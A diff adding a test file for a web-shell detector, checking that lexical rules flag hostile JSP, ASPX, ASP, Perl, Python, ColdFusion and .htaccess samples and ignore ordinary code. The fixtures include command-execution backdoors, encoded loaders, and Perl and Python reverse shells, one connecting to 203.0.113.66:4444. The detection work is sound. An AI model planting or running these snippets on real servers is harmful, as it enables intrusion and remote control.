@@ -1,0 +1,129 @@
+import { describe, expect, it } from 'vitest';
+import type { Language } from '../../src/webshell/language.js';
+import { lexicalSignals } from '../../src/webshell/lexical/rules.js';
+
+const weight = (language: Exclude<Language, 'php'>, source: string) =>
+  Math.max(0, ...lexicalSignals(language, source).map((signal) => signal.weight));
+
+describe('lexical rules', () => {
+  it.each<[Exclude<Language, 'php'>, string, string]>([
+    ['jsp', 'a command', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
+    ['jsp', 'escaped words', String.raw`<% \u0052untime.getRuntime().exec(request.getParameter("c")); %>`],
+    [
+      'jsp',
+      'reflection',
+      '<% Class.forName(new String(new byte[]{106,97,118})).getMethod("x").invoke(null, request.getParameter("c")); %>',
+    ],
+    [
+      'jsp',
+      'a class loader',
+      '<%! class U extends ClassLoader { Class g(byte[] b) { return defineClass(b,0,b.length); } } %><% new U().g(new BASE64Decoder().decodeBuffer(request.getReader().readLine())); %>',
+    ],
+    [
+      'jsp',
+      'script',
+      '<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")); %>',
+    ],
+    [
+      'jsp',
+      'a written file',
+      '<% new FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(request.getParameter("t").getBytes()); %>',
+    ],
+    [
+      'jsp',
+      'a filter of its own',
+      '<% Field f = x.getClass().getDeclaredField("context"); f.setAccessible(true); standardContext.addFilterDef(new FilterDef()); %>',
+    ],
+    ['aspx', 'eval in JScript', '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'],
+    [
+      'aspx',
+      'a process',
+      '<%@ Page Language="C#"%><% var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = Request["c"]; %>',
+    ],
+    [
+      'aspx',
+      'an assembly',
+      '<% Assembly.Load(new RijndaelManaged().CreateDecryptor().TransformFinalBlock(Request.BinaryRead(Request.ContentLength),0,1)); %>',
+    ],
+    ['asp', 'execute', '<%execute request("x")%>'],
+    ['asp', 'eval of a variable', '<% dim x\nx = request("h")\neval x %>'],
+    [
+      'asp',
+      'a decoder',
+      '<% Function d(s)\nd = StrReverse(s)\nEnd Function\nExecute d(")x(tseuqer lave") %>',
+    ],
+    ['asp', 'an encoded page', '<%@ LANGUAGE = VBScript.Encode %><%#@~^BgAAAA==vL[DMQIAAA==^#~@%>'],
+    [
+      'asp',
+      'a shell object',
+      '<% Set s = CreateObject("WScr"&"ipt.Shell") : Response.Write s.Exec(Request("c")).StdOut.ReadAll %>',
+    ],
+    ['perl', 'a reverse shell', 'use Socket; connect(S, $p); open(STDIN, ">&S"); exec("/bin/sh -i");'],
+    ['perl', 'a bot', 'use IO::Socket; print $sock "JOIN #x"; if (/PRIVMSG.*shell (.*)/) { my @o = `$1`; }'],
+    [
+      'python',
+      'a reverse shell',
+      'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.66",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")',
+    ],
+    ['python', 'eval', 'from flask import request\nexec(request.args["c"])'],
+    ['cfm', 'a command', '<cfexecute name="cmd.exe" arguments="/c #form.cmd#" variable="x">'],
+    ['htaccess', 'PHP in images', 'AddType application/x-httpd-php .jpg'],
+    ['htaccess', 'a prepended image', 'auto_prepend_file = logo.png'],
+  ])('%s: find %s', (language, _, source) => {
+    expect(weight(language, source)).toBeGreaterThanOrEqual(45);
+  });
+
+  it.each<[Exclude<Language, 'php'>, string, string]>([
+    ['jsp', 'a search', '<% String q = request.getParameter("q"); out.print(escape(q)); %>'],
+    [
+      'jsp',
+      'an upload with a name of its own',
+      '<% String name = UUID.randomUUID().toString(); part.write("/srv/media/" + name); %>',
+    ],
+    [
+      'aspx',
+      'data binding',
+      '<asp:Repeater runat="server"><ItemTemplate><a href="<%# Eval("Link") %>"><%# Eval("Title") %></a></ItemTemplate></asp:Repeater><% Request.QueryString["q"] %>',
+    ],
+    [
+      'asp',
+      'a counter',
+      '<% Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath("count.txt")) : Response.Write f.ReadLine %>',
+    ],
+    ['perl', 'a form', 'use CGI; print "Content-type: text/html\\n\\n"; print escapeHTML(param("name"));'],
+    [
+      'python',
+      'a view',
+      'from flask import request\n@app.route("/")\ndef index():\n    return render(request.args.get("q"))',
+    ],
+    ['python', 'a deployment script', 'import subprocess\nsubprocess.run(["git", "pull"], check=True)'],
+    [
+      'cfm',
+      'a query',
+      '<cfquery name="q">select * from t where id = <cfqueryparam value="#url.id#"></cfquery>',
+    ],
+    ['htaccess', 'rewriting', 'RewriteEngine On\nRewriteRule . /index.php [L]\nAddType image/webp .webp'],
+  ])('%s: leave %s alone', (language, _, source) => {
+    expect(lexicalSignals(language, source)).toEqual([]);
+  });
+
+  it('take time in proportion to the text', () => {
+    for (const piece of [
+      '"a"+',
+      '/*',
+      'eval(',
+      'request.',
+      '<%',
+      'Assembly',
+      'open(STDIN ',
+      'new FileOutputStream(',
+      '"\\u0041',
+    ]) {
+      const source = piece.repeat(200_000 / piece.length);
+      const started = performance.now();
+      for (const language of ['jsp', 'asp', 'perl', 'python', 'cfm', 'htaccess'] as const)
+        lexicalSignals(language, source);
+      expect(performance.now() - started).toBeLessThan(2_000);
+    }
+  });
+});
